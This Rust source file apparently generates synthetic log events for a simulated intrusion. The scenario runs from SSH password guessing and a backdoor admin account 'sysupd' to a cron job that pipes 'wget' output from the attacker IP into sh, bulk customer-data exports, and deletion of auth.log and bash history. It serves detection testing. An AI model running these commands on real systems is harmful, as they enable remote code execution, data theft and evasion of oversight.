//! A whole intrusion, from the first guess to the data that left.

use super::Scene;
use super::persistence::add_admin;
use crate::generate::acts::{self, Ssh};
use crate::generate::formats::json::App;
use crate::generate::world::Host;

/// Guessing, log-in, a new administrator, a job that loads code, deleted logs,
/// data out.
pub(super) fn intrusion(s: &mut Scene<'_, '_>) {
    let (ip, host, victim) = (s.attacker(0), s.host(Host::Bastion), s.take_victim());
    for n in 0..14 {
        let t = s.about(n * 22_000, 8_000);
        let ssh = Ssh::new(&mut s.c, host, ip, &victim.login, victim.uid);
        ssh.wrong(&mut s.c, t);
        ssh.gave_up(&mut s.c, t + 1_000_000, false);
    }
    // In.
    let (t, end) = (s.at(352_000), s.at(2_900_000));
    let ssh = Ssh::new(&mut s.c, host, ip, &victim.login, victim.uid);
    let session = ssh.accepted(&mut s.c, t, None);
    ssh.closed(&mut s.c, end, session);
    // Root by an account of the attacker's own.
    let t = s.at(600_000);
    acts::sudo(&mut s.c, t, host, &victim.login, victim.uid, "/usr/sbin/useradd -m -s /bin/bash sysupd");
    s.user("sysupd");
    let t = s.at(606_000);
    add_admin(&mut s.c, t, host, "sysupd", 1977);
    // A way back in.
    let (t, pid) = (s.at(1_000_000), s.c.state.pid(host, s.c.r));
    s.c.out.syslog(t, host, "crontab", pid, format_args!("(sysupd) REPLACE (sysupd)"));
    let t = s.at(1_060_000);
    s.c.out.syslog(t, host, "cron", 702, format_args!("(sysupd) RELOAD (crontabs/sysupd)"));
    let command = format!("wget -qO- http://{ip}/k.sh | sh");
    for n in 0..2 {
        let t = s.at(1_200_000 + n * 600_000);
        acts::cron(&mut s.c, t, host, "sysupd", 1977, &command);
    }
    // Data, out of the portal, with the victim's password.
    s.host(Host::App1);
    let base = App {
        service: "portal",
        client: Some(ip),
        user: &victim.login,
        outcome: "success",
        session: 0x51_3c7d,
        ..App::default()
    };
    let t = s.at(2_000_000);
    s.c.out.app(t, &App { event: "login", message: "logged in", ..base });
    for n in 0..3 {
        let t = s.at(2_060_000 + n * 90_000);
        let bytes = s.c.r.range(400_000_000, 900_000_000);
        let resource = format!("customers/export-all-{n}.zip");
        s.c.out.app(t, &App { event: "data_access", resource: &resource, bytes, message: "export", ..base });
    }
    // Traces.
    for (n, command) in ["/usr/bin/rm -f /var/log/auth.log", "/usr/bin/rm -f /root/.bash_history"].iter().enumerate() {
        let t = s.at(2_700_000 + n as i64 * 20_000);
        acts::sudo(&mut s.c, t, host, "sysupd", 1977, command);
    }
}
